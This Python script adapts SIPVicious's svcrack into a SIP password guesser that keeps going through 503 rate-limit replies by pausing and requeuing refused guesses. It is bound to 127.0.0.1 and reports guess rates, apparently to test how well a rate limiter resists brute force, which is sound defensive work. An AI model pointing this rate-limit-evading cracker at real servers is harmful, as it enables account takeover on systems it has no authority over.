#!/usr/bin/python3
"""svcrack that does not give up on 503: a persistent password guesser.

    svcrack_persistent.py --seconds T --port PORT --lport LPORT
                          --user USER --domain D --wordlist FILE

Stock svcrack (SIPVicious 0.3.x) stops at the first reply it does not
know, and a 503 is one: against a rate limit it gives up after a few
guesses.  A determined attacker would not, so this runs svcrack's own
cracker class (sipvicious.svcrack.ASipOfRedWine, unchanged: same requests,
same digest, same pacing) with one difference: a 503 pauses the guessing
for a moment and puts back the password it refused, so that no guess is
lost, as an attacker who reads Retry-After would.  It stops after T
seconds, or when the password is found, and prints one line:

    found=PW|- guesses=N limited=M seconds=S guesses_per_s=R

guesses counts the passwords the target judged (a 403 or the 200);
limited the 503s.  Runs on 127.0.0.1 only.  Needs SIPVicious (Debian
package sipvicious): its modules are found next to the svcrack program.
"""
import argparse
import collections
import os
import shutil
import signal
import sys
import time

svcrack_bin = shutil.which("svcrack")
if not svcrack_bin:
    sys.exit("svcrack not found (apt-get install sipvicious)")
sys.path.insert(0, os.path.dirname(os.path.realpath(svcrack_bin)))

from sipvicious.svcrack import ASipOfRedWine              # noqa: E402
from sipvicious.libs.svhelper import (                    # noqa: E402
    dictionaryattack, getCredentials)

PAUSE = 0.1      # seconds to wait after a 503 before the next try


class Deadline(Exception):
    pass


class OneReply:
    """Looks like the cracker's socket, for one recvfrom."""

    def __init__(self, data, addr):
        self.data, self.addr = data, addr

    def recvfrom(self, _size):
        return self.data, self.addr


class Persistent(ASipOfRedWine):
    def __init__(self, *args, **kw):
        super().__init__(*args, **kw)
        self.retry = collections.deque()
        self.passwdgen = self.guesses(self.passwdgen)
        self.judged = 0
        self.limited = 0
        self.found = None

    def guesses(self, base):
        for pw in base:
            while self.retry:
                yield self.retry.popleft()
            yield pw
        while self.retry:
            yield self.retry.popleft()

    def getResponse(self):
        sock = self.sock
        data, addr = sock.recvfrom(8192)
        text = data.decode("utf-8", "ignore")
        creds = getCredentials(text)
        # svcrack puts "user:password" in the From tag of a guess
        guess = creds[1].decode() if creds and len(creds) == 2 else None
        if text.startswith("SIP/2.0 503 "):
            self.limited += 1
            if guess is not None:
                self.retry.append(guess)
            time.sleep(PAUSE)
            return
        if guess is not None and text.startswith(("SIP/2.0 403 ",
                                                   "SIP/2.0 200 ")):
            self.judged += 1
            if text.startswith("SIP/2.0 200 "):
                self.found = guess
        self.sock = OneReply(data, addr)
        try:
            super().getResponse()
        finally:
            self.sock = sock


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--lport", type=int, required=True)
    ap.add_argument("--user", required=True)
    ap.add_argument("--domain", required=True)
    ap.add_argument("--wordlist", required=True)
    a = ap.parse_args()

    words = open(a.wordlist, "r", encoding="utf-8", errors="ignore")
    cracker = Persistent(host="127.0.0.1", bindingip="127.0.0.1",
                         localport=a.lport, port=a.port, username=a.user,
                         crackmode=2, crackargs=words, domain=a.domain)

    def stop(_sig, _frame):
        raise Deadline()

    signal.signal(signal.SIGALRM, stop)
    signal.setitimer(signal.ITIMER_REAL, a.seconds)
    start = time.monotonic()
    try:
        cracker.start()
    except Deadline:
        pass
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
    secs = time.monotonic() - start
    print("found=%s guesses=%d limited=%d seconds=%.1f guesses_per_s=%.1f"
          % (cracker.found or "-", cracker.judged, cracker.limited, secs,
             cracker.judged / secs if secs else 0))
    return 0


if __name__ == "__main__":
    sys.exit(main())
